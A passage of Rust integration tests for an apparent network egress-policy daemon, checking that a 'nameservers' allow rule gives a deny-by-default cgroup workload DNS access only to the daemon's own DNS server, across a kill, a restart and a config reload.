    assert!(
        wait_until(Duration::from_secs(10), || web.op("tcp 93.184.216.34 443")
            == "OK"),
        "the name is learned again after the restart: {}",
        d.get("/dns")
    );
    assert!(d.stop(), "daemon exits cleanly");
}

/// `cidr = "nameservers"`: a `default = "deny"` workload may ask the daemon's own DNS
/// server (a real dnsmasq on 127.0.0.1:53, named by `[dns] nameservers`) and nothing
/// else on that address; a workload without the rule is refused. It holds while the
/// daemon is killed, after a restart, and a reload naming another server moves it.
#[test]
fn nameservers_in_an_allow_rule_are_the_daemons_dns_servers() {
    let ns = lab();
    let _dnsmasq = Dnsmasq::start(&ns, HOSTS, &[], 60);
    let cg = TestCgroup::new();
    let (_, with_dir) = cg.child("with");
    let (_, without_dir) = cg.child("without");
    let config = |server: &str| {
        format!(
            "[[workload]]\nname = \"with\"\ncgroup = \"{r}/with\"\ndefault = \"deny\"\n[[workload.allow]]\ncidr = \"nameservers\"\nports = [53]\n[[workload]]\nname = \"without\"\ncgroup = \"{r}/without\"\ndefault = \"deny\"\n[dns]\nnameservers = [\"{server}\"]\n[tc]\nenabled = false\n",
            r = cg.rel
        )
    };
    let mut d = Daemon::start(&config("127.0.0.1:53"));
    let mut with = Probe::new(PROBE, &with_dir, &ns);
    let mut without = Probe::new(PROBE, &without_dir, &ns);
    let ask = |p: &mut Probe| p.op("dns api.example.test A 127.0.0.1 53 udp");
    let answered = |r: &str| r.starts_with("RCODE=0 ADDR=93.184.216.34");
    assert!(answered(&ask(&mut with)), "{}", ask(&mut with));
    let refused = ask(&mut without);
    assert!(refused.contains("os error 1"), "{refused}");
    // Only port 53 of the server: its address is otherwise as internal as before.
    assert_eq!(with.op("tcp 127.0.0.1 5432"), "EPERM");
    d.kill9();
    assert!(answered(&ask(&mut with)), "daemon killed");
    assert!(ask(&mut without).contains("os error 1"), "daemon killed");
    d.restart();
    assert!(answered(&ask(&mut with)), "after the restart");
    // Another server named: the rule follows it at the reload.
    d.write_config(&config("127.0.0.2:53"));
    d.signal(libc::SIGHUP);
    assert!(
        wait_until(Duration::from_secs(10), || ask(&mut with)
            .contains("os error 1")),
        "the reload moved the rule to 127.0.0.2:\n{}",
        d.stderr.lock().unwrap()
    );
}
